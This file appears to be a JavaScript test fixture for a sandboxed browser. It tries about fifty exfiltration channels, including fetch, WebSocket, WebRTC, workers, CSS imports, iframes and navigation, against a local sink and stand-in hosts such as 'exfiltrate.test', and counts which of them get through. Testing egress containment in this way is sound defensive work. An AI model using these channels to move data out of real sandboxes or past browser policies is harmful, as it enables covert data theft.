// Every way out that a script has. Each is named; the title of the page counts how many were tried, so that
// silence at the sink can be told from a page that did not run.
'use strict';

const HTTP = 'http://127.0.0.1:{TCP}/';
const WS = 'ws://127.0.0.1:{TCP}/';

function append(name, properties) {
  const element = document.createElement(name);
  Object.assign(element, properties);
  document.body.append(element);
  return element;
}

function blobWorker(source) {
  return new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
}

const ways = {
  fetch: () => fetch(HTTP + 'v-fetch'),
  'fetch-no-cors': () =>
    fetch(HTTP + 'v-fetch-no-cors', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'abandon' }),
  'fetch-https': () => fetch('https://127.0.0.1:{TCP}/v-fetch-https'),
  'fetch-ipv6': () => fetch('http://[::1]:{TCP}/v-fetch-ipv6'),
  'fetch-name': () => fetch('http://abandon.exfiltrate.test/'),
  'fetch-localhost': () => fetch('http://localhost:{TCP}/v-fetch-localhost'),
  'fetch-file': () => fetch('file:///etc/hostname'),
  'fetch-ftp': () => fetch('ftp://127.0.0.1:{TCP}/v-fetch-ftp'),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open('GET', HTTP + 'v-xhr');
    request.send();
  },
  'xhr-synchronous': () => {
    const request = new XMLHttpRequest();
    request.open('GET', HTTP + 'v-xhr-synchronous', false);
    request.send();
  },
  beacon: () => navigator.sendBeacon(HTTP + 'v-beacon', 'abandon'),
  websocket: () => new WebSocket(WS + 'v-websocket'),
  'websocket-name': () => new WebSocket('ws://websocket.exfiltrate.test/'),
  eventsource: () => new EventSource(HTTP + 'v-eventsource'),
  webtransport: () => new WebTransport('https://127.0.0.1:{TCP}/v-webtransport').ready,
  webrtc: async () => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: 'stun:127.0.0.1:{UDP}' },
        { urls: 'turn:127.0.0.1:{TCP}?transport=tcp', username: 'a', credential: 'b' },
      ],
    });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'new-image': () => { new Image().src = HTTP + 'v-new-image.png'; },
  'image-of-svg-data': () =>
    append('img', {
      src: 'data:image/svg+xml,' + encodeURIComponent(
        `<svg xmlns="http://www.w3.org/2000/svg"><image href="${HTTP}v-svg-data.png"/></svg>`),
    }),
  'new-audio': () => new Audio(HTTP + 'v-new-audio.mp3').play(),
  import: () => import(HTTP + 'v-import.js'),
  'script-element': () => append('script', { src: HTTP + 'v-script-element.js' }),
  'style-element': () =>
    append('style', { textContent: `@import url("${HTTP}v-style-element.css");` }),
  'style-attribute': () => {
    const element = append('p', { textContent: 'text' });
    element.style.backgroundImage = `url("${HTTP}v-style-attribute.png")`;
  },
  'style-constructed': () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`p { background-image: url("${HTTP}v-style-constructed.png"); }`);
    document.adoptedStyleSheets = [sheet];
  },
  'font-face': () => new FontFace('Another', `url(${HTTP}v-font-face.woff2)`).load(),
  'worker-of-a-blob': () => blobWorker(`
    fetch('${HTTP}v-worker-fetch').catch(() => 0);
    try { importScripts('${HTTP}v-worker-import.js'); } catch {}
    try { new WebSocket('${WS}v-worker-websocket'); } catch {}`),
  worker: () => new Worker(HTTP + 'v-worker.js'),
  'shared-worker': () => new SharedWorker(HTTP + 'v-shared-worker.js'),
  'service-worker': () => navigator.serviceWorker.register('/hostile.js'),
  'audio-worklet': () => new AudioContext().audioWorklet.addModule(HTTP + 'v-audio-worklet.js'),
  'paint-worklet': () => CSS.paintWorklet.addModule(HTTP + 'v-paint-worklet.js'),
  'link-element': () => append('link', { rel: 'stylesheet', href: HTTP + 'v-link-element.css' }),
  'link-prefetch-element': () =>
    document.head.append(Object.assign(document.createElement('link'),
      { rel: 'prefetch', href: HTTP + 'v-link-prefetch-element' })),
  'link-preconnect-element': () =>
    document.head.append(Object.assign(document.createElement('link'),
      { rel: 'preconnect', href: 'http://127.0.0.1:{TCP}' })),
  'iframe-element': () => append('iframe', { src: HTTP + 'v-iframe-element.html' }),
  'iframe-of-data': () =>
    append('iframe', { src: `data:text/html,<img src="${HTTP}v-iframe-data.png">` }),
  'iframe-of-script': () =>
    append('iframe', { src: `javascript:'<img src="${HTTP}v-iframe-script.png">'` }),
  'mail-address': () => append('iframe', { src: 'mailto:a@exfiltrate.test?body=abandon' }),
  'unknown-scheme': () => append('iframe', { src: 'x-exfiltrate:abandon' }),
  'object-element': () => append('object', { data: HTTP + 'v-object-element.html' }),
  form: () => document.getElementById('form').submit(),
  ping: () => document.getElementById('ping').click(),
  open: () => {
    if (!window.open(HTTP + 'v-window-open')) throw new Error('refused');
  },
  'svg-filter': () => {
    append('p', { textContent: 'text' }).style.filter = `url("${HTTP}v-svg-filter.svg#a")`;
  },
  'meta-csp-report': () =>
    document.head.append(Object.assign(document.createElement('meta'),
      { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${HTTP}v-csp-report` })),
  xslt: () => {
    const sheet = new DOMParser().parseFromString(
      `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform">
         <x:template match="/"><x:copy-of select="document('${HTTP}v-xslt.xml')"/></x:template>
       </x:stylesheet>`, 'text/xml');
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    processor.transformToDocument(new DOMParser().parseFromString('<a/>', 'text/xml'));
  },
};

// These end the page if they succeed, so they come last and apart.
const departures = {
  download: () => document.getElementById('download').click(),
  'meta-refresh': () =>
    document.head.append(Object.assign(document.createElement('meta'),
      { httpEquiv: 'refresh', content: `0;url=${HTTP}v-meta-refresh` })),
  'click-new-window': () =>
    append('a', { href: HTTP + 'v-click-new-window?abandon', target: '_blank' }).click(),
  location: () => { location.href = HTTP + 'v-location?abandon'; },
};

const fromMarkup = document.documentElement.outerHTML.split('/v-').length - 1;
let tried = 0;

function tell(state) {
  document.title = `${state} ${fromMarkup} ${tried}`;
}

async function attempt(way) {
  tried += 1;
  try {
    await way();
  } catch {
    // Refused is what we hope for; the sink knows the rest.
  }
}

for (const way of Object.values(ways)) attempt(way);
tell('tried');
const pause = (seconds) => new Promise((resolve) => setTimeout(resolve, seconds * 1000));
(async () => {
  await pause(4);
  for (const way of Object.values(departures)) {
    attempt(way);
    tell('leaving');
    await pause(0.7);
  }
  tell('done');
})();
